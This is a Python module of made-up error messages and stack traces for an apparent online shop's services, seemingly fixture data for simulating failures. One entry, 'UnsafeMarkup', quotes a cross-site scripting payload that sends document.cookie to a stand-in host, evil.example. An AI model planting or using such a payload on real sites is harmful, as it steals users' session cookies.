"""What the company's functions raise: each error's message (with changing parts, as real ones have) and stack."""

from typing import NamedTuple


class ErrorText(NamedTuple):
    """`message` has `{n}` and `{id}` where occurrences differ; `frames`: (file, line, function), outermost first."""

    message: str
    frames: tuple[tuple[str, int, str], ...]


def error_text(name: str) -> ErrorText:
    """The text of an error; a name nobody wrote down has an empty message, as some real ones do."""
    return _ERRORS.get(name, ErrorText("", (("app", 12, "handler"),)))


def _app(message: str, *frames: tuple[str, int, str]) -> ErrorText:
    return ErrorText(message, (("app", 31, "handler"), *frames))


_ERRORS: dict[str, ErrorText] = {
    "CouponSchemaError": _app(
        "coupon {id} has no field 'discount_minor_units' (schema v2)",
        ("checkout/coupons", 88, "apply_coupon"),
        ("checkout/schema", 41, "parse_coupon"),
    ),
    "PaymentDeclined": _app("card declined for order {n}", ("checkout/pay", 57, "authorize")),
    "StockServiceTimeout": _app(
        "stock service did not answer within 2000 ms (order {n})", ("checkout/stock", 29, "reserve")
    ),
    "TypeError": _app("Cannot read properties of undefined (reading 'sku')", ("dist/lines", 118, "totalOf")),
    "RedisTimeout": _app("read ETIMEDOUT 10.20.{n}.17:6379", ("dist/session", 44, "load")),
    "IndexUnavailable": _app("no living shard for index products-{n}", ("search/client", 73, "query")),
    "ProductNotFound": _app("product {n} is not in the catalogue", ("catalogue/read", 19, "by_id")),
    "java.lang.IllegalStateException": ErrorText(
        "Session {id} already closed",
        (("Handler.java", 52, "handleRequest"), ("Session.java", 131, "flush"), ("Connection.java", 208, "write")),
    ),
    "java.net.SocketTimeoutException": ErrorText(
        "Read timed out", (("Authorizer.java", 77, "handleRequest"), ("AcquirerClient.java", 143, "authorize"))
    ),
    "TokenExpired": _app("token {id} expired", ("identity/tokens", 66, "verify")),
    "QuoteExpired": _app("quote {n} expired", ("pricing/quotes", 40, "confirm")),
    "ModelNotLoaded": _app("model recs-2026-10 not in /opt/models", ("recs/model", 25, "load")),
    "WarehouseUnavailable": _app("HTTP 503 from wms.internal/stock/{n}", ("stock/wms", 92, "fetch")),
    "PartnerQuotaExceeded": _app("partner {n} used its quota", ("feed/quota", 18, "check")),
    "KeyError": _app("'shipping_address'", ("orders/intake", 64, "accept"), ("orders/address", 22, "normalise")),
    "InvalidVatNumber": _app(
        "VAT number 'DE{n}27' of customer {id} has 8 digits, expected 9",
        ("orders/intake", 71, "accept"),
        ("orders/vat", 15, "check"),
    ),
    "SMTPServerBusy": _app(
        "421 4.3.2 Service not available, closing channel (message {id})", ("mail/smtp", 58, "send")
    ),
    "RecipientRefused": _app(
        "550 5.1.1 <customer-{n}@example.com>: Recipient address rejected", ("mail/smtp", 63, "send")
    ),
    "AddressMissing": _app("order {n} has no e-mail address", ("mail/compose", 31, "recipient")),
    "TemplateMissing": _app("no template 'parcel-split' in de_AT (order {n})", ("mail/templates", 12, "load")),
    "ConditionalCheckFailed": _app("The conditional request failed (sku {n})", ("stock/reserve", 37, "put")),
    "UnsafeMarkup": _app(
        "review {n} holds <script>fetch('//evil.example/'+document.cookie)</script>", ("moderate", 90, "render")
    ),
    "FontNotFound": _app("cannot open resource Inter-{n}.ttf", ("pdf/fonts", 12, "face")),
    "UnidentifiedImageError": _app("cannot identify image file '/tmp/{id}.heic'", ("media/thumbs", 33, "open_image")),
    "EndpointGone": _app("410 Gone: https://partner-{n}.example/hooks", ("webhooks/post", 51, "deliver")),
    "PointsLedgerLocked": _app("ledger row {n} is locked", ("points", 27, "credit")),
    "ProjectionConflict": _app("version {n} is older than what is stored", ("projector/write", 48, "apply")),
    "RateProviderDown": _app("HTTP 502 from rates.example", ("rates/fetch", 20, "latest")),
    "RateLimited": _app("429 Too Many Requests, retry after {n}", ("slack/post", 14, "send")),
    "TaxTableMissing": _app("no tax table for ZIP {n}", ("tax/tables", 39, "Lookup")),
    "RegionUnknown": _app("region 'PR-{n}' is not served", ("router/region", 23, "route")),
    "AcquirerRejected": _app("acquirer answered R{n}: capture after void", ("capture/acquirer", 82, "capture")),
    "FeatureStoreMiss": _app("feature vector {id} not found", ("fraud/features", 31, "vector")),
    "SignatureMismatch": _app("signature of webhook {id} does not match", ("psp/signature", 9, "verify")),
}
